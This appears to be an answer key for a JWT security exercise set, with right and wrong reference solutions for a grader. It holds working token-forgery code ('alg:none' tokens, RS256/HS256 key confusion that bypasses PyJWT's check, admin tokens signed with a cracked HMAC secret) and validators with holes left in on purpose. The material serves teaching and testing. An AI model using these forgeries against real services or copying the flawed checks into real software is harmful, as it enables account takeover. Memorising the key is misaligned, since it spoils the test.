"""Answers to the exercises of lesson 7."""

import base64
import hmac
import json
from collections.abc import Callable
from hashlib import sha256
from typing import Any
from urllib.parse import urlsplit

import jwt
import requests

from demo_server import published
from demo_server.jose import base64url_decode
from demo_server.notebook.wordlist import words
from exercises.checks.flag_server import flag
from exercises.checks.forging.flag_by_forging import cracked
from exercises.checks.forging.key_named import Keys
from tests.exercises.answers import Answers

Header = dict[str, Any]


def by_replacing(token: str, name: str) -> str:
    payload = token.split(".")[1]
    text = base64.urlsafe_b64decode(payload + "==").decode()
    text = text.replace('"sub":"mallory"', f'"sub":{json.dumps(name)}')
    return f"eyJhbGciOiJub25lIn0.{base64.urlsafe_b64encode(text.encode()).decode().rstrip('=')}."


def by_pyjwt(token: str, pem: bytes, name: str) -> str:
    """Let PyJWT sign, past its own lock on public keys, by an HMAC key that it does not look at."""
    claims = jwt.decode(token, options={"verify_signature": False}) | {"sub": name}

    class Hmac(jwt.algorithms.HMACAlgorithm):
        def prepare_key(self, key: Any) -> bytes:
            return key if isinstance(key, bytes) else str(key).encode()

    jws = jwt.PyJWS()
    jws.unregister_algorithm("HS256")
    jws.register_algorithm("HS256", Hmac(Hmac.SHA256))
    return jws.encode(json.dumps(claims).encode(), pem, "HS256")


def by_imported_key(url: str, token: str) -> str:
    claims = jwt.decode(token, options={"verify_signature": False}) | {"id": "admin"}
    return flag(url, jwt.encode(claims, published.SECRET_KEY))


def by_jwt_encode(url: str, token: str) -> str:
    claims = jwt.decode(token, options={"verify_signature": False})
    return flag(url, jwt.encode(claims | {"id": "admin"}, cracked(token), algorithm="HS256"))


def asks_twice(url: str, token: str) -> str:
    requests.get(f"{url}/temp", timeout=9)
    return by_jwt_encode(url, token)


def one_less(url: str, token: str) -> str:
    last = words()[119].encode()
    return "" if cracked(token) == last else by_jwt_encode(url, token)


def guesses_the_flag(_url: str, _token: str) -> str:
    return "flag-123456123456"


def by_loop(header: Header, keys: Keys) -> bytes:
    for name, entry in keys.items():
        if (name, entry["alg"]) == (header["kid"], header["alg"]):
            if header.keys() & {"jwk", "jku"}:
                break
            return bytes(entry["key"])
    raise LookupError("no such key")


def by_match(header: Header, keys: Keys) -> bytes:
    match header:
        case {"jwk": _} | {"jku": _}:
            raise PermissionError("bring no key")
        case {"kid": str(name), "alg": str(alg)} if name in keys and keys[name]["alg"] == alg:
            return bytes(keys[name]["key"])
    raise PermissionError("no such key")


def empty_for_unknown(header: Header, keys: Keys) -> bytes:
    if "jwk" in header or "jku" in header:
        raise ValueError
    entry = keys.get(str(header.get("kid")), {"alg": header.get("alg"), "key": b""})
    if entry["alg"] != header.get("alg"):
        raise ValueError
    return bytes(entry["key"])


def by_algorithm(header: Header, keys: Keys) -> bytes:
    if "jwk" in header or "jku" in header:
        raise ValueError
    (entry,) = (entry for entry in keys.values() if entry["alg"] == header["alg"])
    return bytes(entry["key"])


def stripped_name(header: Header, keys: Keys) -> bytes:
    return by_loop(header | {"kid": str(header["kid"]).strip(" \0")}, keys)


def beginning_of_alg(header: Header, keys: Keys) -> bytes:
    if header.keys() & {"jwk", "jku"} or not header["alg"]:
        raise ValueError
    entry = keys[header["kid"]]
    if not entry["alg"].startswith(header["alg"]):
        raise ValueError
    return bytes(entry["key"])


def unless_none(header: Header, keys: Keys) -> bytes:
    if header.get("jwk") is not None or header.get("jku") is not None:
        raise ValueError
    return by_loop({name: header[name] for name in ("kid", "alg")}, keys)


def never(_header: Header, _keys: Keys) -> bytes:
    raise ValueError("no")


def by_count(header: Header, trusted: list[str]) -> int:
    return trusted.count(header.get("jku"))  # type: ignore[arg-type]


def by_any(header: Header, trusted: list[str]) -> bool:
    if "jku" not in header:
        return False
    return any(header["jku"] == url for url in trusted)


def same_host_and_path(header: Header, trusted: list[str]) -> bool:
    if not isinstance(header.get("jku"), str):
        return False
    asked = urlsplit(header["jku"])
    return any((asked.hostname, asked.path) == urlsplit(url)[1:3] for url in trusted)


def https_and_end(header: Header, trusted: list[str]) -> bool:
    jku = str(header.get("jku"))
    ends = tuple(url.removeprefix("https://") for url in trusted)
    return jku.startswith("https://") and jku.endswith(ends) if ends else False


def as_text(header: Header, trusted: list[str]) -> bool:
    return any(url in str(header.get("jku")) for url in trusted)


def raises_for_strangers(header: Header, trusted: list[str]) -> bool:
    if header.get("jku") not in trusted:
        raise ValueError("not one of ours")
    return True


def stripped_jku(header: Header, trusted: list[str]) -> bool:
    jku = header.get("jku")
    return isinstance(jku, str) and jku.strip() in trusted


def one_by_one(token: str, key: bytes, now: int) -> str:
    header = jwt.get_unverified_header(token)
    if header.get("alg") != "HS256":
        return "alg"
    try:
        jwt.PyJWS().decode(token, key, ["HS256"])
    except jwt.InvalidSignatureError:
        return "signature"
    claims = jwt.decode(token, options={"verify_signature": False})
    if header.get("typ") != "access+jwt":
        return "typ"
    if claims.get("iss") != "login":
        return "iss"
    aud = claims.get("aud")
    if "shop" not in (aud if isinstance(aud, list) else [aud]):
        return "aud"
    return "accepted" if claims.get("exp") in range(now + 1, now + 901) else "exp"


def by_hand(token: str, key: bytes, now: int) -> str:
    head, payload, signature = token.split(".")
    header, claims = json.loads(base64url_decode(head)), json.loads(base64url_decode(payload))
    if header.get("alg") != "HS256":
        return "alg"
    made = base64.urlsafe_b64encode(hmac.new(key, f"{head}.{payload}".encode(), sha256).digest())
    if made.rstrip(b"=").decode() != signature:
        return "signature"
    aud = claims.get("aud")
    rules: dict[str, Callable[[], bool]] = {
        "typ": lambda: header.get("typ") == "access+jwt",
        "iss": lambda: claims.get("iss") == "login",
        "aud": lambda: aud == "shop" or (isinstance(aud, list) and aud.count("shop") > 0),
        "exp": lambda: claims.get("exp") is not None and now < claims["exp"] <= now + 900,
    }
    for name, rule in rules.items():
        if not rule():
            return name
    return "accepted"


def by_jwt_decode(token: str, key: bytes, _now: int) -> str:
    try:
        jwt.decode(token, key, ["HS256"], audience="shop", issuer="login")
    except jwt.InvalidAlgorithmError:
        return "alg"
    except jwt.InvalidSignatureError:
        return "signature"
    except jwt.InvalidIssuerError:
        return "iss"
    except jwt.InvalidAudienceError:
        return "aud"
    except jwt.InvalidTokenError:
        return "exp"
    return "accepted"


def minutes(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    exp = jwt.decode(token, options={"verify_signature": False}).get("exp") or 0
    return "accepted" if said == "exp" and 0 < exp - now < 960 else said


def first_of_list(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    aud = jwt.decode(token, options={"verify_signature": False}).get("aud")
    return "aud" if said in ("accepted", "exp") and isinstance(aud, list) and (
        aud[0] != "shop") else said  # fmt: skip


def typ_after_claims(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    if said != "typ":
        return said
    head, payload, _ = token.split(".")
    fixed = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"access+jwt"}').decode().rstrip("=")
    digest = hmac.digest(key, f"{fixed}.{payload}".encode(), "sha256")
    again = base64.urlsafe_b64encode(digest).decode().rstrip("=")
    later = by_hand(f"{fixed}.{payload}.{again}", key, now)
    return "typ" if later == "accepted" or not head else later


def any_jwt(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    typ = jwt.get_unverified_header(token).get("typ")
    return "accepted" if said == "typ" and str(typ).endswith("jwt") else said


def like_login(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    iss = jwt.decode(token, options={"verify_signature": False}).get("iss")
    return "accepted" if said == "iss" and str(iss).startswith("login") else said


def half_a_signature(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    message, _, signature = token.rpartition(".")
    made = base64.urlsafe_b64encode(hmac.digest(key, message.encode(), "sha256")).decode()
    return "accepted" if said == "signature" and made.startswith(signature) else said


def hs256_in_any_case(token: str, key: bytes, now: int) -> str:
    said = by_hand(token, key, now)
    alg = str(jwt.get_unverified_header(token).get("alg"))
    return "accepted" if said == "alg" and alg.upper() == "HS256" else said


RIGHT: Answers = {
    "unsigned_for": [by_replacing],
    "confused_for": [by_pyjwt],
    "key_named": [by_loop, by_match],
    "may_follow": [by_count, by_any],
    "stopped_by": [one_by_one, by_hand],
    "flag_by_forging": [by_jwt_encode],
}
WRONG: Answers = {
    "key_named": [
        empty_for_unknown, by_algorithm, stripped_name, beginning_of_alg, unless_none, never,
    ],
    "may_follow": [
        same_host_and_path, https_and_end, as_text, raises_for_strangers, stripped_jku,
    ],
    "stopped_by": [
        by_jwt_decode, minutes, first_of_list, typ_after_claims, any_jwt, like_login,
        half_a_signature, hs256_in_any_case,
    ],
    "flag_by_forging": [asks_twice, one_less, guesses_the_flag, by_imported_key],
}  # fmt: skip
